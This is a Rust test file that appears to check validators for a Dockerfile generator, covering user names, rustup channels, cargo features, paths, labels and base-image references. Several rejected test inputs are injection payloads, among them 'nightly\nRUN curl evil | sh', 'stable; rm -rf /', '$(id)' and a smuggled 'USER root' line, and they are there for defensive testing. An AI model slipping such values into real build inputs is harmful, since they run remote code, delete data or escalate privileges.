use super::*;
use crate::model::Runtime;

#[test]
fn lines_refuse_breaks_and_controls_and_say_which() {
    for (bad, said) in [
        ("a\nb", "a line break (U+000A)"),
        ("a\rb", "a line break (U+000D)"),
        ("a\u{2028}b", "a line break (U+2028)"),
        ("a\u{1b}[0m", "the control character U+001B"),
        ("a\u{202e}b", "the bidirectional-text control U+202E"),
        ("a\tb", "a tab (U+0009)"),
    ] {
        let err = check_line(bad).unwrap_err().to_string();
        assert!(err.contains(said), "{bad:?}: {err}");
        assert!(!err.contains(['\n', '\r', '\u{1b}']), "one line: {err:?}");
    }
    assert_eq!(check_line("naïve – ok"), Ok(()));
}

#[test]
fn text_is_bounded() {
    assert!("x".repeat(MAX_VALUE_BYTES).parse::<Text>().is_ok());
    let err = "x".repeat(70_000).parse::<Text>().unwrap_err().to_string();
    assert!(err.contains("70000 bytes"), "{err}");
    assert!(err.len() < 200, "the value is cut in the message: {err}");
}

#[test]
fn users_are_names_or_ids() {
    for good in ["65532:65532", "root", "app_user", "nobody:nogroup", "1000"] {
        assert!(good.parse::<User>().is_ok(), "{good}");
    }
    for (bad, said) in [
        ("/srv\\", "`\\`"),
        ("app\nUSER root", "line break"),
        ("$USER", "`$`"),
        ("a b", "is not a user"),
        ("", "is not a user"),
        ("a:b:c", "is not a user"),
        ("-x", "is not a user"),
    ] {
        let err = bad.parse::<User>().unwrap_err().to_string();
        assert!(err.contains(said), "{bad:?}: {err}");
    }
    assert!("0:0".parse::<User>().unwrap().is_root());
    assert!(!User::nonroot().is_root());
}

#[test]
fn channels_follow_rustups_grammar() {
    for good in [
        "stable",
        "beta",
        "nightly",
        "1.95",
        "1.95.0",
        "nightly-2026-01-01",
        "stable-2025-06-01",
        "1.95-x86_64-unknown-linux-gnu",
        "nightly-2026-01-01-aarch64-unknown-linux-gnu",
    ] {
        let channel: Channel = good.parse().unwrap_or_else(|e| panic!("{good}: {e}"));
        assert_eq!(channel.to_string(), good);
    }
    assert_eq!(
        "nightly-2026-01-01-x86_64-unknown-linux-gnu"
            .parse::<Channel>()
            .unwrap()
            .parts(),
        (
            "nightly",
            Some("2026-01-01"),
            Some("x86_64-unknown-linux-gnu")
        )
    );
    for (bad, said) in [
        ("nightly\nRUN curl evil | sh", "line break"),
        ("stable; rm -rf /", "`;`"),
        ("1.95 && id", "` `"),
        ("$(id)", "`$`"),
        ("1.95.0.1", "not a rustup channel"),
        ("nightly-", "not a rustup channel"),
        ("11.0", "not a rustup channel"),
        ("stable-X86", "not a rustup channel"),
    ] {
        let err = bad.parse::<Channel>().unwrap_err().to_string();
        assert!(err.contains(said), "{bad:?}: {err}");
    }
}

#[test]
fn features_follow_cargos_grammar() {
    for good in ["metrics", "serde/derive", "a-b+c.d", "_x", "1x", "ünï"] {
        assert!(good.parse::<Feature>().is_ok(), "{good}");
    }
    assert_eq!(
        "api/metrics".parse::<Feature>().unwrap().split(),
        (Some("api"), "metrics")
    );
    for bad in ["a\nRUN x", "a b", "a,b", "-a", "a/b/c", "", "a;b", "dep:x"] {
        assert!(bad.parse::<Feature>().is_err(), "{bad:?}");
    }
}

#[test]
fn env_and_label_keys() {
    assert!("APP_ENV".parse::<EnvName>().is_ok());
    assert!("a.b-c".parse::<EnvName>().is_ok());
    for bad in ["1A", "A B", "A=B", "A\n", ""] {
        assert!(bad.parse::<EnvName>().is_err(), "{bad:?}");
    }
    assert!("org.opencontainers.image.vendor"
        .parse::<LabelKey>()
        .is_ok());
    for bad in ["a b", "a=b", "a\"b", "$x", "", "a\\"] {
        assert!(bad.parse::<LabelKey>().is_err(), "{bad:?}");
    }
}

#[test]
fn paths_hold_no_docker_word_syntax() {
    assert!("/srv/my app".parse::<ImagePath>().is_ok());
    for (bad, said) in [
        ("/srv\\", "`\\`"),
        ("srv", "absolute"),
        ("/a\nUSER root", "line break"),
        ("/$HOME", "`$`"),
        ("/it's", "`'`"),
    ] {
        let err = bad.parse::<ImagePath>().unwrap_err().to_string();
        assert!(err.contains(said), "{bad:?}: {err}");
    }
    assert_eq!(
        ContextPath::folded("./docker//Dockerfile").unwrap(),
        "docker/Dockerfile"
    );
    for bad in [
        "../x",
        "/etc/x",
        "docker/",
        "a\nb",
        "a\\b",
        "",
        "./docker//Dockerfile",
    ] {
        assert!(bad.parse::<ContextPath>().is_err(), "{bad:?}");
    }
    let dest = ImagePath::app().join(&"static/files".parse().unwrap());
    assert_eq!(dest, "/app/files");
}

#[test]
fn binary_names_are_file_names_a_line_can_hold() {
    for good in ["api", "My_Tool", "2fa", "a b", "a;b"] {
        assert!(good.parse::<BinaryName>().is_ok(), "{good}");
    }
    for bad in ["a\\", "a$b", "it's", "a/b", "a\nb", " ", "-x"] {
        assert!(bad.parse::<BinaryName>().is_err(), "{bad:?}");
    }
}

#[test]
fn runtimes_are_names_or_image_references() {
    assert_eq!("scratch".parse::<Runtime>().unwrap(), Runtime::Scratch);
    assert_eq!(
        "ghcr.io/acme/base:1".parse::<Runtime>().unwrap(),
        Runtime::Image("ghcr.io/acme/base:1".into())
    );
    let pinned = format!("debian:bookworm-slim@sha256:{}", "a".repeat(64));
    assert_eq!(
        pinned.parse::<Runtime>().unwrap(),
        Runtime::Image(pinned.clone())
    );
    for bad in [
        "",
        "--platform=linux/arm64",
        "alpine AS x",
        "alpine\nRUN id",
        "Alpine",
        "alpine@sha256:abc",
        "${BASE}",
    ] {
        assert!(bad.parse::<Runtime>().is_err(), "{bad:?}");
    }
}
